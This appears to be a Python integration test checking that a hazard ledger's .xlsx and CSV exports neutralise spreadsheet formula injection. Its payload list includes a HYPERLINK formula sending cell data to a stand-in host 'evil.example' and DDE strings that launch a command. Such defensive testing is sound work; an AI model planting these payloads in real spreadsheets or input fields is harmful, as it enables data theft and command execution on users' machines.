"""A resident's or a phone's text never becomes a live formula in an export (issue 14,
finding 5): the ledger's .xlsx keeps it as a string cell, CSV quotes it with '."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient

from server import sheets
from tests.integration.hazards.people import GRID_MEMBER, STATION, hazard_in, viewer
from tests.integration.helpers import log_in

pytestmark = pytest.mark.db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]


async def test_no_formula_in_the_ledger(app: Litestar, demo) -> None:
    people = {"grid": await viewer(GRID_MEMBER), "station": await viewer(STATION)}
    for text in PAYLOADS:
        await hazard_in("accepted", people, description=text, address=text)
    async with AsyncTestClient(app=app) as station:
        assert (await log_in(station, STATION)).status_code == 303
        answer = await station.get("/hazards/ledger.xlsx")
        assert answer.status_code == 200, answer.text[-2000:]
        content = answer.content
        csv_text = (await station.get("/hazards/ledger.csv")).content.decode("utf-8-sig")
    with zipfile.ZipFile(io.BytesIO(content)) as xlsx:
        assert b"<f>" not in xlsx.read("xl/worksheets/sheet1.xml")  # no formula at all
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row[6:8]]
    assert sorted(c.value for c in cells) == sorted(PAYLOADS * 2)  # kept as written
    assert {c.data_type for c in cells} == {"s"}
    lines = list(csv.reader(io.StringIO(csv_text)))[1:]
    assert sorted(line[7] for line in lines) == sorted("'" + p for p in PAYLOADS)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1", "'=1"),
        ("-", "'-"),
        ("\t=1", "'\t=1"),
        ("普通文字", "普通文字"),
        (-5, -5),
        ("", ""),
        (None, None),
    ],
)
def test_csv_cell(value, written) -> None:
    assert sheets.csv_cell(value) == written
